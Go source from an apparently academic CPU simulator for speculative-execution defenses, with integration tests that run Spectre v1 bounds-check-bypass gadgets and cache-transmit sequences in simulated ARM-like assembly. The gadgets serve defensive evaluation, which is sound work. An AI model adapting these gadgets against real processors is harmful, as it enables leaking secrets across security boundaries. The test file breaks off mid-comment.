// struct spans multiple cache lines, and every stage begins by probing
// valid/seq/state/doneAt through entry(), so those sit together at the top;
// the big rename backing arrays (srcsBuf/prevProd) go at the bottom where
// the steady state rarely reads them.
type robEntry struct {
	valid    bool
	isBranch bool
	isLoad   bool
	isStore  bool
	tagOK    bool
	seq      uint64
	inst     *isa.Inst
	pc       uint64

	robZero

	srcs []source

	// Branch prediction state carried over from fetch.
	predTaken  bool
	rsbPred    bool // prediction came from the RSB
	predTarget uint64
	ghrSnap    uint64 // global-history snapshot at prediction time

	// O(1) rename/wakeup bookkeeping. srcsBuf backs srcs so steady-state
	// dispatch allocates nothing; consumers keeps its backing array across
	// slot reuse for the same reason.
	srcsBuf     [4]source
	consumers   []uint64  // dispatched dependents awaiting this result
	falloutFwds []uint64  // loads this store fallout-forwarded to (stores only)
	prevProd    [2]uint64 // RAT values displaced by this entry's dsts
}

// resetFor reinitialises a ROB slot for a newly dispatched instruction.
// `*e = robEntry{...}` would duffcopy the whole ~370-byte entry per
// dispatch (it dominated the profile), so the zero-returning scalars clear
// as one robZero memclr and only the genuinely non-zero fields are stored.
// The backing arrays survive (consumers/falloutFwds/srcsBuf keep their
// storage), and srcsBuf/prevProd contents need no clearing — every read is
// bounded by the lengths/claims set during this entry's own rename.
// stDispatched is 0, so the memclr also sets the state.
func (e *robEntry) resetFor(seq uint64, fi *fetchedInst) {
	in := fi.inst
	e.robZero = robZero{}
	e.valid = true
	e.seq = seq
	e.pc = fi.pc
	e.inst = in
	e.srcs = e.srcsBuf[:0]
	e.isBranch = in.IsBranch()
	e.predTaken = fi.predTaken
	e.predTarget = fi.predTarget
	e.rsbPred = fi.rsbPred
	e.ghrSnap = fi.ghrSnap
	e.isLoad = in.IsLoad()
	e.isStore = in.IsStore()
	e.tagOK = true
	e.consumers = e.consumers[:0]
	e.falloutFwds = e.falloutFwds[:0]
}

// candidateEvent is a potential leak recorded at execute, promoted to a real
// leak if the instruction is later squashed (transient execution).
type candidateEvent struct {
	seq uint64
	ev  core.LeakEvent
}

// Core is one simulated hardware core.
type Core struct {
	ID  int
	cfg *core.Config
	mit core.Mitigation

	fe     Frontend
	hier   *cache.Hierarchy
	img    *mem.Image
	pred   *branch.Predictor
	tsh    *core.TSH
	oracle *core.Oracle

	cycle   uint64
	nextSeq uint64
	headSeq uint64
	rob     []robEntry

	cRegs [isa.NumRegs]uint64
	// cSecret tracks oracle secret taint through the committed register
	// file (a register holding secret data keeps its taint across commit —
	// needed for register-targeted LVI analysis).
	cSecret [isa.NumRegs]bool
	cFlags  isa.Flags

	// Front end.
	fetchPC        uint64
	fetchStallTo   uint64        // i-cache miss / redirect penalty
	fetchBlockedBy uint64        // unresolved branch seq stalling fetch (CFI / no-prediction)
	lastFetchLine  uint64        // line of the previous I-fetch (one access per line)
	fetchQ         []fetchedInst // power-of-two ring, indexed via fqMask
	fqHead         int           // ring index of the oldest undispatched entry
	fqCount        int           // live entries in the ring
	fqMask         int
	shadowStack    []uint64 // SpecCFI speculative shadow stack (fetch-maintained)

	// Back-end resources.
	aluFree []uint64
	mulFree []uint64
	divFree uint64 // single non-pipelined divider
	brFree  uint64
	tagSeed uint64
	mduPred map[uint64]uint8 // load PC -> conflict counter (memory disambiguation)
	lqCount int
	sqCount int
	iqCount int

	// Termination.
	Halted   bool
	Faulted  bool
	FaultPC  uint64
	ExitCode uint64
	Output   []byte

	// Fault recovery (models a signal handler around tag/permission faults,
	// which the MDS attack loops rely on).
	FaultHandler uint64 // 0 = fault stops the core

	// Assist (permission-faulting) regions — Meltdown/MDS territory.
	assistLo, assistHi uint64

	Stats *stats.Set

	// Rec, when set, records per-instruction lifecycle timestamps for the
	// pipeline viewer (gem5-o3pipeview style).
	Rec *Recorder

	// TraceFn, when set, receives one line per notable pipeline event
	// (dispatch, memory issue/response, branch resolution, squash, fault).
	// The spectre_v1_demo example uses it to print the Figure 5 walkthrough.
	TraceFn func(format string, args ...any)

	// ChaosBranchDelay, when set, returns extra cycles added to a branch's
	// issue-to-resolve latency (delayed-resolution fault injection; widens
	// the speculative window without changing the resolved outcome).
	ChaosBranchDelay func(pc uint64) uint64

	// Obs, when set, receives every pipeline and SpecASan lifecycle event
	// into this core's preallocated trace ring (internal/obs). Met, when
	// set, feeds the per-core latency histograms directly. Both are
	// nil-guarded: disabled, each hook site costs one pointer compare.
	Obs *obs.CoreTrace
	Met *obs.CoreMetrics

	// gate, when non-nil, is the machine's parallel-step baton (gate.go):
	// the core must pass through it before its first touch of shared state
	// — hierarchy, memory image, tag sidecar, oracle event recording — in
	// each tick. gateHeld notes that this tick already holds the baton.
	// Both are nil/false in serial runs.
	gate     *stepGate
	gateHeld bool

	// lastCommitCycle is the cycle of the most recent commit — the
	// watchdog's progress signal.
	lastCommitCycle uint64

	// wedged freezes the commit stage (watchdog test injection).
	wedged bool

	// candidates holds potential leak events keyed by instruction seq;
	// promoted to the oracle when the instruction is squashed.
	candidates map[uint64][]core.LeakEvent

	// Cached policy-descriptor bits (core.PolicyDescriptor): the active
	// mitigation's gates, flattened once at construction so the per-cycle
	// paths read plain bools. selectiveDly is a machine-config knob.
	mteOn        bool
	specChecks   bool
	taintOn      bool
	ghostOn      bool
	cfiOn        bool
	fenceOn      bool
	selectiveDly bool
	domOn        bool // delay-on-miss: hold speculative L1D-miss loads
	domLFBHit    bool // delay-on-miss knob: an in-flight LFB line counts as a hit

	// Incremental rename/wakeup structures. The rename map table (rat) maps
	// each architectural register to its youngest in-flight producer (0 =
	// committed register file); dispatch reads it in O(1) where it used to
	// scan the window, commit clears it, and squash unwinds it through each
	// entry's prevProd chain. The seq queues below mirror subsets of the
	// in-flight window so the stages that used to sweep the whole ROB touch
	// only the entries they care about. All are maintained exactly by
	// dispatch/resolve/releaseEntry and validated by the watchdog.
	rat      [isa.NumRegs]uint64
	ratFlags uint64

	readyQ     []uint64 // stDispatched entries with all operands available
	readyDirty bool     // readyQ needs re-sorting before issue
	wakeQ      []wakeEvent
	wakeNext   []uint64 // wake batch all due at wakeNextAt (bypasses the heap)
	wakeNextAt uint64

	branchQ  []uint64 // in-flight unresolved branches, ascending
	storeQ   []uint64 // in-flight stores, ascending
	loadQ    []uint64 // in-flight loads, ascending
	barrierQ []uint64 // in-flight SWPAL/DSB, ascending
	riskQ    []uint64 // entries with fault/assist/falloutForward set

	unresolvedStores  int    // in-flight stores with !addrReady
	tagWritesInFlight int    // in-flight STG/ST2G
	incompleteFrom    uint64 // no incomplete entry older than this (lazy)

	// robMask/robCap: the rob slice is sized to the next power of two above
	// the configured window so seq -> slot is a mask instead of a modulo;
	// robCap is the architectural capacity the dispatch stage enforces.
	robMask uint64
	robCap  int

	// Hot-path counter handles: lazily bound pointers into Stats so the
	// per-event cost is a nil check plus an increment instead of a
	// string-keyed map operation. Bound on first increment, which preserves
	// Stats' first-use key ordering and which-keys-exist semantics exactly.
	nCommits, nRestricted, nDispatched, nDispatchStall, nCFIStall *uint64
	nLoads, nStoresExec, nStoresCommitted, nBrCorrect, nBrMispred *uint64
	nSquashes, nSquashedInsts                                     *uint64
}

// bump increments a lazily-bound counter handle.
func bump(h **uint64, s *stats.Set, key string) {
	if *h == nil {
		*h = s.Counter(key)
	}
	**h++
}

type fetchedInst struct {
	pc         uint64
	inst       *isa.Inst
	predTaken  bool
	predTarget uint64
	rsbPred    bool
	ghrSnap    uint64
	// stallOnResolve marks a branch fetch could not predict (or CFI
	// refused): fetch stays stalled until this instruction resolves.
	stallOnResolve bool
}

// NewCore builds a core attached to shared machine structures. The frontend
// supplies the instruction stream (see Frontend); every core of a machine
// shares one.
func NewCore(id int, cfg *core.Config, mit core.Mitigation, fe Frontend,
	hier *cache.Hierarchy, img *mem.Image, oracle *core.Oracle, tagSeed uint64) *Core {

	pol := mit.Descriptor()
	c := &Core{
		ID:      id,
		cfg:     cfg,
		mit:     mit,
		fe:      fe,
		hier:    hier,
		img:     img,
		oracle:  oracle,
		rob:     make([]robEntry, pow2ceil(cfg.ROBEntries)),
		robCap:  cfg.ROBEntries,
		nextSeq: 1,
		headSeq: 1,
		fetchPC: fe.EntryPC(),
		aluFree: make([]uint64, cfg.ALUs),
		mulFree: make([]uint64, 1),
		mduPred: make(map[uint64]uint8),
		tagSeed: tagSeed,
		Stats:   stats.NewSet("core"),

		mteOn:        pol.MTE,
		specChecks:   pol.SpecTagChecks,
		taintOn:      pol.Taint,
		ghostOn:      pol.GhostFills,
		cfiOn:        pol.CFI,
		fenceOn:      pol.FenceLoads,
		selectiveDly: cfg.SelectiveDelay,
		domOn:        pol.DelayOnMiss,
		domLFBHit:    pol.Knob("lfb_hit_ok", 1) != 0,
	}
	c.robMask = uint64(len(c.rob) - 1)
	// Pre-size the incremental queues and the fetch buffer so the steady
	// state never allocates. The fetch ring needs 3*FetchWidth-1 slots
	// (see fqPush), rounded up to a power of two for mask indexing.
	fqCap := 1
	for fqCap < 3*cfg.FetchWidth {
		fqCap <<= 1
	}
	c.fetchQ = make([]fetchedInst, fqCap)
	c.fqMask = fqCap - 1
	c.readyQ = make([]uint64, 0, cfg.ROBEntries)
	c.wakeQ = make([]wakeEvent, 0, 2*cfg.ROBEntries)
	c.wakeNext = make([]uint64, 0, cfg.ROBEntries)
	c.branchQ = make([]uint64, 0, cfg.ROBEntries)
	c.storeQ = make([]uint64, 0, cfg.SQEntries)
	c.loadQ = make([]uint64, 0, cfg.LQEntries)
	c.barrierQ = make([]uint64, 0, cfg.ROBEntries)
	c.riskQ = make([]uint64, 0, cfg.ROBEntries)
	c.tsh = core.NewTSH(tshROB{c})
	return c
}

// tshROB adapts the core's ROB to the TSH's SSA signalling interface.
type tshROB struct{ c *Core }

// SignalSSA implements core.ROBSignal: the TSH notifies the ROB of a
// tag-check outcome (Figure 4 steps ④/⑥).
func (t tshROB) SignalSSA(seq uint64, safe bool) {
	e := t.c.entry(seq)
	if e == nil {
		return
	}
	e.ssaKnown, e.ssaSafe = true, safe
	if !safe {
		t.c.onUnsafeAccess(e)
	}
}

// SetAssistRegion marks [lo,hi) as permission-faulting for this core's
// loads: accesses return transient (assisted) data and fault at commit.
func (c *Core) SetAssistRegion(lo, hi uint64) { c.assistLo, c.assistHi = lo, hi }

func (c *Core) inAssist(addr uint64) bool {
	a := mte.Strip(addr)
	return c.assistHi > c.assistLo && a >= c.assistLo && a < c.assistHi
}

// entry returns the ROB entry for seq if still in flight.
func (c *Core) entry(seq uint64) *robEntry {
	if seq < c.headSeq || seq >= c.nextSeq {
		return nil
	}
	e := &c.rob[seq&c.robMask]
	if !e.valid || e.seq != seq {
		return nil
	}
	return e
}

func (c *Core) robCount() int { return int(c.nextSeq - c.headSeq) }

// oldestUnresolvedBranch returns the seq of the oldest in-flight unresolved
// branch, or 0 when none exists. branchQ holds exactly the unresolved
// in-flight branches in ascending seq order, so this is its front.
func (c *Core) oldestUnresolvedBranch() uint64 {
	if len(c.branchQ) == 0 {
		return 0
	}
	return c.branchQ[0]
}

// speculative reports whether entry e executes under unresolved control
// speculation at the current moment.
func (c *Core) speculative(e *robEntry) bool {
	if e.lastBranchSeq == 0 {
		return false
	}
	ob := c.oldestUnresolvedBranch()
	return ob != 0 && ob <= e.lastBranchSeq && ob < e.seq
}

// olderIncomplete reports whether any older in-flight instruction has not
// yet produced its result — the lfence drain condition. incompleteFrom is a
// lazily advanced pointer: completion is sticky (stDone never reverts and
// doneAt <= cycle stays true as cycles advance), so entries behind it never
// become incomplete again; squash clamps it when seqs roll back.
func (c *Core) olderIncomplete(seq uint64) bool {
	if c.incompleteFrom < c.headSeq {
		c.incompleteFrom = c.headSeq
	}
	for c.incompleteFrom < c.nextSeq {
		o := &c.rob[c.incompleteFrom&c.robMask]
		if o.valid && o.seq == c.incompleteFrom && (o.state != stDone || o.doneAt > c.cycle) {
			break
		}
		c.incompleteFrom++
	}
	return c.incompleteFrom < seq
}

// specOrMemDep is the speculation definition STT and GhostMinion use:
// control speculation or an open memory-dependence window.
func (c *Core) specOrMemDep(e *robEntry) bool {
	return c.speculative(e) || c.memDepWindowOpen(e.seq)
}

// transient reports whether e is younger than any in-flight instruction
// that may still fault or misspeculate — the wider window MDS-class attacks
// use. It subsumes control speculation and covers pending faults/assists,
// unresolved store addresses (memory-dependence windows) and false
// store-to-load forwards awaiting their write-to-full-address comparison.
func (c *Core) transient(e *robEntry) bool {
	if c.speculative(e) {
		return true
	}
	// riskQ holds exactly the in-flight entries with one of those flags set
	// (usually empty; a handful under attack workloads).
	for _, s := range c.riskQ {
		if s < e.seq {
			return true
		}
	}
	return c.memDepWindowOpen(e.seq)
}

// memDepWindowOpen reports whether an older store with an unresolved
// address exists — the window memory-dependence speculation opens. STT and
// GhostMinion treat loads in this window as speculative (it is part of
// their threat model); MDS-style fault windows are not.
func (c *Core) memDepWindowOpen(seq uint64) bool {
	if c.unresolvedStores == 0 {
		return false
	}
	for _, s := range c.storeQ {
		if s >= seq {
			break
		}
		if !c.rob[s&c.robMask].addrReady {
			return true
		}
	}
	return false
}

// markRisk registers e in riskQ when its fault/assist/falloutForward flag is
// first set; releaseEntry removes it.
func (c *Core) markRisk(e *robEntry) {
	if !e.inRiskQ {
		e.inRiskQ = true
		c.riskQ = append(c.riskQ, e.seq)
		c.obsRecord(e.seq, e.pc, obs.EvRiskMark, 0)
	}
}

// obsRecord forwards one event to the attached trace ring. Small enough to
// inline; disabled tracing costs the nil compare only.
func (c *Core) obsRecord(seq, pc uint64, kind obs.EventKind, arg uint64) {
	if c.Obs != nil {
		c.Obs.Record(c.cycle, seq, pc, kind, arg)
	}
}

// taintActive reports whether an STT taint root is still live (its value
// has not reached the visibility point: all older branches resolved and all
// older store addresses known).
func (c *Core) taintActive(root uint64) bool {
	if root == 0 {
		return false
	}
	e := c.entry(root)
	if e == nil {
		return false // committed or squashed: taint cleared
	}
	return c.specOrMemDep(e)
}

// entryTainted reports whether any of e's renamed sources carries live STT
// taint, returning the youngest live root.
func (c *Core) entryTainted(e *robEntry) uint64 {
	var root uint64
	for _, s := range e.srcs {
		if p := c.entry(s.producer); p != nil && p.taintRoot != 0 && c.taintActive(p.taintRoot) {
			if p.taintRoot > root {
				root = p.taintRoot
			}
		}
	}
	if e.flagsFrom != 0 {
		if p := c.entry(e.flagsFrom); p != nil && p.taintRoot != 0 && c.taintActive(p.taintRoot) {
			if p.taintRoot > root {
				root = p.taintRoot
			}
		}
	}
	return root
}

// secretSources reports whether any renamed source carries oracle secret
// taint, in flight or through the committed register file.
func (c *Core) secretSources(e *robEntry) bool {
	for _, s := range e.srcs {
		if p := c.entry(s.producer); p != nil {
			if p.secret {
				return true
			}
		} else if s.reg != isa.XZR && c.cSecret[s.reg] {
			return true
		}
	}
	if e.flagsFrom != 0 {
		if p := c.entry(e.flagsFrom); p != nil && p.secret {
			return true
		}
	}
	return false
}

// trace emits a pipeline event line when tracing is enabled.
func (c *Core) trace(format string, args ...any) {
	if c.TraceFn != nil {
		c.TraceFn(format, args...)
	}
}

// Cycle returns the core's current cycle.
func (c *Core) Cycle() uint64 { return c.cycle }

// Committed returns the number of committed instructions.
func (c *Core) Committed() uint64 { return c.Stats.Get("commits") }

// Reg reads a committed architectural register (after halt).
func (c *Core) Reg(r isa.Reg) uint64 {
	if r == isa.XZR {
		return 0
	}
	return c.cRegs[r]
}

// SetReg pre-loads a committed register before the run starts.
func (c *Core) SetReg(r isa.Reg, v uint64) {
	if r != isa.XZR {
		c.cRegs[r] = v
	}
}

// enterShared serialises the core's first shared-state access of this tick
// behind the machine's step baton: it returns only once every lower-ID
// core has finished its tick, so the shared state (hierarchy, memory
// image, tags, oracle events) is exactly what the serial walk would show.
// A no-op in serial runs (one nil compare) and on every access after the
// first in a tick. Reads of run-immutable state — the program, the config,
// the oracle's secret regions — do not need it.
func (c *Core) enterShared() {
	if c.gate == nil || c.gateHeld {
		return
	}
	c.gate.acquire(c.ID)
	c.gateHeld = true
}

// TSH exposes the core's tag-check status handler (stats, tests).
func (c *Core) TSH() *core.TSH { return c.tsh }

// Predictor exposes the branch predictor (attack training, tests).
func (c *Core) Predictor() *branch.Predictor { return c.pred }

// SetPredictor wires the branch predictor (done by the Machine so tests can
// substitute pre-trained state).
func (c *Core) SetPredictor(p *branch.Predictor) { c.pred = p }

// LastCommitCycle returns the cycle of the core's most recent commit.
func (c *Core) LastCommitCycle() uint64 { return c.lastCommitCycle }

// InjectWedge freezes the commit stage: the core keeps fetching and
// executing but never commits again. Watchdog tests use it to model a hung
// pipeline without depending on a real deadlock bug.
func (c *Core) InjectWedge() { c.wedged = true }

// ChaosFlush squashes every instruction younger than the ROB head and
// redirects fetch to the head's architectural successor — an external
// pipeline flush (squash-storm fault injection). The flush is refused
// (returns false) when it cannot be applied safely this cycle: empty ROB,
// or a head that is an unresolved branch or a pending fault, where the
// architectural next PC is not yet known.
func (c *Core) ChaosFlush() bool {
	if c.Halted || c.Faulted || c.robCount() == 0 {
		return false
	}
	e := c.entry(c.headSeq)
	if e == nil || e.fault {
		return false
	}
	target := e.pc + isa.InstBytes
	if e.isBranch {
		if !e.brResolved {
			return false
		}
		target = e.actualNext
	}
	c.squashAfter(e.seq, target)
	c.Stats.Inc("chaos_flushes")
	return true
}
