package cpu

// Integration tests for the SpecASan mechanism itself: the tcs life cycle
// on the pipeline, selective delay, replay, dependent marking, and the
// paper's three design goals (G1: no mismatched data to speculative loads,
// G2: no in-flight memory mutation by mismatched stores, G3: no
// microarchitectural traces from unsafe accesses).

import (
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mte"
)

// specV1Shape builds a bounds-check gadget with a controllable index. The
// secret granule is tagged differently from the array.
const specV1Shape = `
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    MOV  X13, #0x100080     // victim warms its secret
    LDG  X13, [X13]
    LDR  X14, [X13]
    DSB
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    MOV  X0, #128           // OOB index (the secret)
    LDR  X1, [X20]          // slow bound
    CMP  X0, X1
    B.LO body               // resolves late; the fresh PHT predicts taken,
    B    done               // so the body is fetched speculatively
body:
    LDR  X5, [X21, X0]      // speculative OOB access
    LSL  X6, X5, #6
done:
    SVC  #0
    .org 0x120000
size_slot:
    .word 1000000           // huge bound: the branch IS taken (in bounds)
    .org 0x100000
array1:
    .space 128
`

func buildSpecV1(t *testing.T, mit core.Mitigation) *Machine {
	t.Helper()
	prog, err := asm.Assemble(specV1Shape)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 128, 0xa)
	m.Img.Tags.SetRange(0x100080, 16, 0xb)
	m.Img.WriteU64(0x100080, 0x5ec4e7)
	m.Oracle.MarkSecret(0x100080, 16)
	return m
}

// TestG1NoDataForMismatchedSpeculativeLoad: with a huge bound the branch is
// NOT taken, so the OOB access is architecturally reached — but it is
// speculative while the bound load is outstanding. SpecASan must withhold
// the data during that window (tcs=unsafe), then replay it once the branch
// resolves, and finally fault at commit because the access is genuinely
// mismatched on the correct path.
func TestG1UnsafeAccessDelayedThenFaults(t *testing.T) {
	m := buildSpecV1(t, core.SpecASan)
	var sawUnsafe bool
	m.Core(0).TraceFn = func(f string, a ...any) {
		if strings.Contains(f, "tcs=unsafe") {
			sawUnsafe = true
		}
	}
	res := m.Run(1_000_000)
	if !sawUnsafe {
		t.Error("the speculative mismatched load must pass through tcs=unsafe")
	}
	if !res.Faulted {
		t.Error("a mismatched access on the correct path must fault at commit")
	}
	if res.Stats.Get("unsafe_replays") == 0 {
		t.Error("the unsafe access must be replayed after speculation resolves")
	}
	if m.Oracle.SecretReads != 0 {
		t.Error("G1: no secret byte may reach the pipeline speculatively")
	}
}

// TestSelectiveDelayLetsSafeAccessesRun: a tag-matching speculative load in
// the same window proceeds without any unsafe transition.
func TestSelectiveDelayLetsSafeAccessesRun(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    LDR  X14, [X21]        // warm
    DSB
    ADR  X9, slot
    DC   CIVAC, X9
    DSB
    LDR  X1, [X9]          // slow: opens the window
    CMP  X1, #999
    B.LS body              // taken (0 <= 999); predicted taken
    B    skip
body:
    LDR  X5, [X21, #8]     // tag-matching speculative load
    ADD  X6, X5, #1
skip:
    SVC  #0
    .org 0x100000
array1:
    .space 64
    .org 0x120000
slot:
    .word 0
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 64, 0xa)
	res := m.Run(1_000_000)
	if res.Faulted {
		t.Fatal("tag-matching program must not fault")
	}
	if res.Stats.Get("unsafe_accesses") != 0 {
		t.Fatal("selective delay: safe accesses must not be delayed")
	}
	if m.Core(0).TSH().Stats.Safe == 0 {
		t.Fatal("safe accesses must pass through tcs=safe")
	}
}

// TestG3SquashedUnsafeAccessLeavesNoCacheTrace: when the OOB access sits on
// a mispredicted path, SpecASan squashes it without any fill.
func TestG3SquashedUnsafeAccessLeavesNoCacheTrace(t *testing.T) {
	// Small bound: the branch IS taken at resolution, so the OOB body is a
	// mispredicted path. Flush the secret line so a leak would need a fill.
	prog := asm.MustAssemble(strings.Replace(specV1Shape,
		".word 1000000", ".word 16", 1))
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 128, 0xa)
	m.Img.Tags.SetRange(0x100080, 16, 0xb)
	m.Oracle.MarkSecret(0x100080, 16)
	// Do NOT warm the secret: if the speculative OOB access fills it, the
	// trace is visible. (The PoC's warm sequence uses a valid pointer; we
	// flush afterwards by pointing X13 at the array instead.)
	res := m.Run(1_000_000)
	if res.Faulted {
		t.Fatalf("mispredicted-path access must not fault (flushed with the squash)")
	}
	if m.Oracle.Leaked() {
		t.Fatal("G3: unsafe speculative access left a trace")
	}
}

// TestUnsafeBaselineLeaksInSameShape sanity-checks the test gadget: on the
// unprotected machine, the same mispredicted-path gadget does leak.
func TestUnsafeBaselineLeaksInSameShape(t *testing.T) {
	prog := asm.MustAssemble(strings.Replace(specV1Shape,
		".word 1000000", ".word 16", 1))
	prog2 := asm.MustAssemble(strings.Replace(strings.Replace(specV1Shape,
		".word 1000000", ".word 16", 1),
		"LSL  X6, X5, #6", "LSL  X6, X5, #6\n    AND  X6, X6, #4032\n    LDR  X8, [X21, X6]", 1))
	_ = prog
	m, err := NewMachine(core.DefaultConfig(), core.Unsafe, prog2)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 128, 0xa)
	m.Img.Tags.SetRange(0x100080, 16, 0xb)
	m.Img.WriteU64(0x100080, 0x5ec4e7)
	m.Oracle.MarkSecret(0x100080, 16)
	m.Run(1_000_000)
	if m.Oracle.SecretReads == 0 {
		t.Fatal("gadget sanity check: baseline must read the secret speculatively")
	}
	if !m.Oracle.Leaked() {
		t.Fatal("gadget sanity check: baseline must leak")
	}
}

// TestG2StoreNeverMutatesMemorySpeculatively: a mismatched store under
// speculation must not change memory, and must fault if it reaches commit.
func TestG2MismatchedStoreFaultsWithoutWriting(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X21, array1
    MOV  X2, #7777
    STR  X2, [X21]         // untagged pointer, tagged memory: mismatch
    SVC  #0
    .org 0x100000
array1:
    .word 1234
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 16, 0xa)
	res := m.Run(1_000_000)
	if !res.Faulted {
		t.Fatal("mismatched store must fault")
	}
	if got := m.Img.ReadU64(0x100000); got != 1234 {
		t.Fatalf("G2 violated: memory changed to %d", got)
	}
}

// TestFaultHandlerResumesExecution: the commit-time fault redirects to the
// registered handler (the MDS attack-loop pattern) instead of stopping.
func TestFaultHandlerResumesExecution(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X21, array1
    LDR  X2, [X21]         // mismatch: untagged key vs tagged memory
    MOV  X0, #111          // skipped (squashed by the fault)
    SVC  #0
handler:
    BTI
    MOV  X0, #222
    SVC  #0
    .org 0x100000
array1:
    .word 5
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 16, 0xa)
	m.Core(0).FaultHandler = prog.MustLabel("handler")
	res := m.Run(1_000_000)
	if res.Faulted {
		t.Fatal("handler must absorb the fault")
	}
	if got := m.Core(0).Reg(isa.X0); got != 222 {
		t.Fatalf("X0 = %d, want 222 (handler path)", got)
	}
	if res.Stats.Get("tag_faults") != 1 {
		t.Fatalf("tag_faults = %d", res.Stats.Get("tag_faults"))
	}
}

// TestMemoryOrderViolationSquashAndReplay: a load that bypasses an older
// store to the same address must be squashed when the store resolves, and
// re-execute with the right value.
func TestMemoryOrderViolationSquashAndReplay(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X9, depslot
    LDR  X1, [X9]          // slow (cold): delays the store address
    AND  X1, X1, #7
    ADR  X2, slot
    ADD  X2, X2, X1
    MOV  X3, #99
    STR  X3, [X2]          // address resolves late
    LDR  X4, [X2]          // hmm: same register chain... use fixed addr:
    SVC  #0
    .org 0x120000
depslot:
    .word 0
    .org 0x121000
slot:
    .word 1
`)
	_ = prog
	// The load must use an address available early while the store's
	// resolves late; rebuild properly:
	prog = asm.MustAssemble(`
_start:
    ADR  X8, slot
    ADR  X9, depslot
    LDR  X1, [X9]
    AND  X1, X1, #7
    ADD  X2, X8, X1        // store address: late
    MOV  X3, #99
    STR  X3, [X2]
    LDR  X4, [X8]          // early address: speculates past the store
    SVC  #0
    .org 0x120000
depslot:
    .word 0
    .org 0x121000
slot:
    .word 1
`)
	m, err := NewMachine(core.DefaultConfig(), core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(1_000_000)
	if res.Stats.Get("order_violations") == 0 {
		t.Fatal("expected a memory-order violation")
	}
	if got := m.Core(0).Reg(isa.X4); got != 99 {
		t.Fatalf("X4 = %d, want the store's value 99 after replay", got)
	}
}

// TestSTTBlocksTaintedTransmitNotSafeWork: under STT, the dependent load of
// a speculative load is delayed, but independent work is not.
func TestSTTBlocksTaintedTransmit(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X21, array1
    LDR  X14, [X21]        // warm line
    DSB
    ADR  X9, slot
    LDR  X1, [X9]          // cold: opens the window
    CMP  X1, #999
    B.LS body              // taken; predicted taken: body speculates
    B    skip
body:
    LDR  X5, [X21]         // speculative: result tainted
    AND  X6, X5, #56
    ADD  X6, X21, X6
    LDR  X7, [X6]          // transmit: tainted address -> delayed
skip:
    SVC  #0
    .org 0x100000
array1:
    .word 8, 9, 10, 11, 12, 13, 14, 15
    .org 0x120000
slot:
    .word 0
`)
	m, err := NewMachine(core.DefaultConfig(), core.STT, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(1_000_000)
	if res.Faulted || res.TimedOut {
		t.Fatalf("run failed: %v", res)
	}
	if res.Stats.Get("policy_block_stt") == 0 {
		t.Fatal("STT must delay the tainted transmit at least one cycle")
	}
	// Architectural result must still be correct after the delay.
	if got := m.Core(0).Reg(isa.X7); got != 9 {
		t.Fatalf("X7 = %d, want 9", got)
	}
}

// TestGhostPromotionOnCommit: a speculative load on the CORRECT path leaves
// its line out of the caches until commit, then promotes it.
func TestGhostPromotionOnCommit(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X9, slot
    LDR  X1, [X9]          // cold: window opener
    CMP  X1, #999
    B.LS body              // taken; predicted taken: body speculates
    B    skip
body:
    ADR  X21, array1
    LDR  X5, [X21]         // speculative, correct-path: ghost then promote
skip:
    SVC  #0
    .org 0x100000
array1:
    .word 7
    .org 0x120000
slot:
    .word 0
`)
	m, err := NewMachine(core.DefaultConfig(), core.GhostMinion, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(1_000_000)
	if res.Faulted || res.TimedOut {
		t.Fatalf("run failed: %v", res)
	}
	if m.Hier.Ghost[0].Fills == 0 {
		t.Fatal("the speculative load must fill the ghost buffer")
	}
	if m.Hier.Ghost[0].Promotes == 0 {
		t.Fatal("the committed load must promote its ghost line")
	}
	if !m.Hier.InL1D(0, 0x100000, m.Cores[0].Cycle()+2) {
		t.Fatal("promoted line must be in L1 after commit")
	}
	if got := m.Core(0).Reg(isa.X5); got != 7 {
		t.Fatalf("X5 = %d", got)
	}
}

// TestSpecCFIBlocksNonBTISpeculation: fetch must refuse to follow a
// predicted indirect target that is not a BTI landing pad.
func TestSpecCFIBlocksNonBTISpeculation(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X19, fnslot
    ADR  X9, target
    STR  X9, [X19]
    MOV  X12, #4
loop:
    LDR  X9, [X19]
    BLR  X9                // target lacks BTI
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0
target:
    ADD  X5, X5, #1
    RET
    .org 0x120000
fnslot:
    .word 0
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecCFI, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(1_000_000)
	if res.TimedOut {
		t.Fatal("CFI stall must not deadlock: the branch resolves and proceeds")
	}
	if res.Stats.Get("cfi_blocked_indirect") == 0 {
		t.Fatal("speculation to a non-BTI target must be refused")
	}
	if got := m.Core(0).Reg(isa.X5); got != 4 {
		t.Fatalf("X5 = %d, want 4 (architectural execution unaffected)", got)
	}
}

// TestTagKeysSurviveRegisterDataflow: pointers keep their key through ALU
